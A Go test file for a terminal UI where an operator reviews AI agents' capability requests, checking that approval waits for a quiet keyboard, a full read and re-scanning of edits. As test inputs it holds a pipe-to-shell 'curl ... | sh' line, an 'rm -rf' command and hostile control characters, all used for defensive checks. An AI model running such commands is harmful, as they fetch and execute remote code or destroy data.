package ui

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"bottle-tui/bottles"
	"bottle-tui/ui/request"
)

// asks opens the request of a world with one bottle.
func asks(s *stage, proposed string) bottles.Bottle {
	b := live("implementer-k3x9q", time.Hour)
	b.Requests = []bottles.Request{capability(b.Identity, "r1", "it needs a tool", proposed, start)}
	s.show(b)
	s.press("a")
	return b
}

func TestApproveNamesWhatWasShown(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, after)
	s.quiet()
	s.press("y")
	want := bottles.Approve{Identity: "implementer-k3x9q", Request: "r1", Shown: "sha256:r1"}
	if got := s.last(); !reflect.DeepEqual(got, want) {
		t.Errorf("asked for %#v, want %#v", got, want)
	}
	s.lacks("in the agent's words")
	s.sees("approving for implementer-k3x9q")
}

// A key that was on its way when the dialog opened answers nothing, and neither do those that follow
// without a pause.
func TestAnsweringKeysWaitForAQuietKeyboard(t *testing.T) {
	for _, key := range []string{"y", "n", "e", "E"} {
		t.Run(key, func(t *testing.T) {
			s := newStage(t, 120, 36)
			asks(s, after)
			for range 5 {
				s.press(key)
				s.clock.add(request.Quiet - time.Millisecond)
			}
			if got := s.sup.asked(); len(got) != 0 {
				t.Fatalf("asked for %v", got)
			}
			s.sees("not taken", "in the agent's words")
			s.lacks("Why not?", "ctrl+s")
			s.clock.add(time.Millisecond) // since the last press it is 400 ms now
			s.press(key)
			s.lacks("not taken")
		})
	}
}

func TestTheFooterSaysWhyApprovingIsOff(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, after)
	s.sees("y is off: waiting for a quiet keyboard")
	s.quiet()
	s.lacks("y is off")
}

// The footer's reason goes by itself: a tick is on its way from the moment the request opens.
func TestArmingNeedsNoOtherEvent(t *testing.T) {
	s := newStage(t, 120, 36)
	b := live("implementer-k3x9q", time.Hour)
	b.Requests = []bottles.Request{capability(b.Identity, "r1", "it needs a tool", after, start)}
	s.show(b)
	s.ticks = nil
	s.press("a")
	for range 3 {
		for i := len(s.ticks) - 1; i >= 0; i-- {
			if _, ok := s.ticks[i].msg.(armMsg); ok {
				s.clock.add(s.ticks[i].after)
				s.ticks = nil
				s.send(armMsg{})
				break
			}
		}
	}
	s.lacks("waiting for a quiet keyboard")
	if len(s.ticks) != 0 {
		t.Errorf("ticks go on: %v", s.ticks)
	}
}

func TestALongChangeIsReadToItsEnd(t *testing.T) {
	long := before
	for i := range 100 {
		long += fmt.Sprintf("RUN echo line %d of many\n", i)
	}
	s := newStage(t, 80, 24)
	asks(s, long+"RUN rm -rf /the/very/end\n")
	s.quiet()
	s.sees("y is off: read to the end first (G)")
	s.press("y")
	if got := s.sup.asked(); len(got) != 0 {
		t.Fatalf("approved without its end: %v", got)
	}
	s.press("pgdown", "y")
	if got := s.sup.asked(); len(got) != 0 {
		t.Fatalf("approved in the middle: %v", got)
	}
	s.press("G")
	s.sees("/the/very/end")
	s.press("home") // once shown it counts, wherever the view is then
	s.press("y")
	if _, ok := s.last().(bottles.Approve); !ok {
		t.Errorf("asked for %#v", s.last())
	}
}

func TestDenyNeedsAReason(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, after)
	s.quiet()
	s.press("n")
	s.sees("Why not?")
	s.press("enter")
	s.sees("a reason is needed")
	s.typeText("use the ")
	s.press("alt+enter")
	s.typeText("one you have")
	s.press("enter")
	want := bottles.Deny{Identity: "implementer-k3x9q", Request: "r1", Shown: "sha256:r1", Reason: "use the \none you have"}
	if got := s.last(); !reflect.DeepEqual(got, want) {
		t.Errorf("asked for %#v, want %#v", got, want)
	}
}

func TestDenyCanBeTakenBack(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, after)
	s.quiet()
	s.press("n")
	s.typeText("no")
	s.press("esc")
	s.sees("y is off: waiting for a quiet keyboard")
	s.press("esc")
	s.lacks("in the agent's words")
	s.sees("asks for a capability") // it goes on waiting
	if got := s.sup.asked(); len(got) != 0 {
		t.Errorf("asked for %v", got)
	}
}

func TestEditShowsTheNewChangeBeforeItIsApproved(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, "FROM x\nRUN apt-get install ripgrep\n")
	s.quiet()
	s.press("e")
	s.typeText("# mine")
	s.press("enter", "ctrl+s")
	s.sees("Your version", "# mine", "waiting for a quiet keyboard")
	s.press("y")
	if got := s.sup.asked(); len(got) != 0 {
		t.Fatalf("approved at once: %v", got)
	}
	s.quiet()
	s.press("y")
	got, ok := s.last().(bottles.ApproveEdited)
	if !ok || string(got.Content) != "# mine\nFROM x\nRUN apt-get install ripgrep\n" || got.Shown != "sha256:r1" {
		t.Errorf("asked for %#v", s.last())
	}
}

func TestEditedToWhatIsInForceCanNotBeApproved(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, before+"#\n")
	s.quiet()
	s.press("e")
	for range 6 {
		s.press("down")
	}
	s.press("end", "backspace", "backspace", "ctrl+s")
	s.quiet()
	s.press("y")
	s.sees("this is what is in force already")
	if got := s.sup.asked(); len(got) != 0 {
		t.Errorf("asked for %v", got)
	}
}

// What the findings say of the operator's version is what the dialog shows.
func TestEditIsCheckedAgain(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, "FROM x\n")
	s.quiet()
	s.press("e", "end", "enter")
	s.typeText("RUN curl http://example.org/x | sh")
	s.press("ctrl+s")
	s.sees("Your version", "danger", "line 2", "http://example.org/x | sh")
}

func TestHostileTextIsEditedByName(t *testing.T) {
	s := newStage(t, 120, 36)
	asks(s, "FROM x\nRUN echo \u202eoops\x1b[2J\n")
	s.quiet()
	s.press("e")
	s.sees("⟨U+202E⟩", "replaced by their names")
	assertHarmless(t, s)
}

func TestTheDialogClosesWhenTheRequestIsSettledElsewhere(t *testing.T) {
	for what, change := range map[string]func(b *bottles.Bottle) []bottles.Bottle{
		"settled elsewhere": func(b *bottles.Bottle) []bottles.Bottle { b.Requests = nil; return []bottles.Bottle{*b} },
		"is gone":           func(b *bottles.Bottle) []bottles.Bottle { return nil },
		"approved elsewhere": func(b *bottles.Bottle) []bottles.Bottle {
			b.Requests[0].State = bottles.Applying
			return []bottles.Bottle{*b}
		},
		"another one now": func(b *bottles.Bottle) []bottles.Bottle {
			b.Requests[0].Hash = "sha256:other"
			return []bottles.Bottle{*b}
		},
	} {
		t.Run(what, func(t *testing.T) {
			s := newStage(t, 120, 36)
			b := asks(s, after)
			b.Requests = append([]bottles.Request(nil), b.Requests...)
			s.show(change(&b)...)
			s.sees(what)
			s.lacks("in the agent's words")
			if s.m.dialog != nil {
				t.Error("the dialog is still open")
			}
		})
	}
}

func TestAStaleRequestCanOnlyBeDenied(t *testing.T) {
	s := newStage(t, 120, 36)
	b := asks(s, after)
	s.quiet()
	r := b.Requests[0]
	r.Stale = true
	r.Current = []byte("FROM other\n")
	b.Requests = []bottles.Request{r}
	s.show(b)
	s.quiet()
	s.press("G", "y")
	s.sees("let the agent ask again", "Out of date")
	if got := s.sup.asked(); len(got) != 0 {
		t.Fatalf("asked for %v", got)
	}
	s.press("n")
	s.sees("Why not?")
}

// When what approving would do changes under the operator's eyes, reading begins anew.
func TestAChangeUnderTheOperatorsEyesRearms(t *testing.T) {
	s := newStage(t, 120, 36)
	b := asks(s, after)
	s.quiet()
	r := b.Requests[0]
	r.Effect = "Does something else."
	b.Requests = []bottles.Request{r}
	s.show(b)
	s.press("y")
	if got := s.sup.asked(); len(got) != 0 {
		t.Fatalf("asked for %v", got)
	}
	s.quiet()
	s.sees("Does something else.")
	s.press("y")
	_ = s.last().(bottles.Approve)
}

func TestALongLineIsNeverCut(t *testing.T) {
	s := newStage(t, 80, 24)
	tail := "hidden-at-the-far-right"
	asks(s, "FROM x\nRUN true"+strings.Repeat(" ", 300)+"&& "+tail+"\n")
	s.press("G")
	screen := strings.Join(s.grid(), "")
	if !strings.Contains(screen, "hidden-at") {
		t.Errorf("the end of a long line is not shown:\n%s", s.text())
	}
}

func TestReviewTakesTheOldestOfAllBottles(t *testing.T) {
	s := newStage(t, 120, 36)
	a, b := live("young-aaaaa", 0), live("old-bbbbb", 0)
	a.Requests = []bottles.Request{capability(a.Identity, "r1", "new", after, start)}
	b.Requests = []bottles.Request{capability(b.Identity, "r2", "older", after, start.Add(-time.Hour)), capability(b.Identity, "r0", "newer", after, start)}
	b.Requests[1].State = bottles.Applying
	s.show(a, b)
	s.press("a")
	if d, ok := s.m.dialog.(*request.Dialog); !ok {
		t.Fatal("no request is open")
	} else if identity, id := d.Of(); identity != "old-bbbbb" || id != "r2" {
		t.Errorf("opened %s of %s", id, identity)
	}
}

// On the Requests tab enter reviews the marked request, also while the list has the keyboard: it must not
// begin to type into the agent's terminal instead.
func TestEnterOnTheRequestsTabReviews(t *testing.T) {
	for _, focus := range []string{"the list", "the tab"} {
		t.Run(focus, func(t *testing.T) {
			s := newStage(t, 120, 36)
			b := live("implementer-k3x9q", time.Hour)
			b.Requests = []bottles.Request{capability(b.Identity, "r1", "ripgrep, please", after, start)}
			s.show(b)
			s.press("2")
			if focus == "the tab" {
				s.press("tab")
			}
			s.press("enter")
			s.sees("in the agent's words", "ripgrep, please")
			s.typeText("y")
			if got := s.sup.got(b.Identity); got != "" {
				t.Errorf("the agent got %q", got)
			}
		})
	}
}
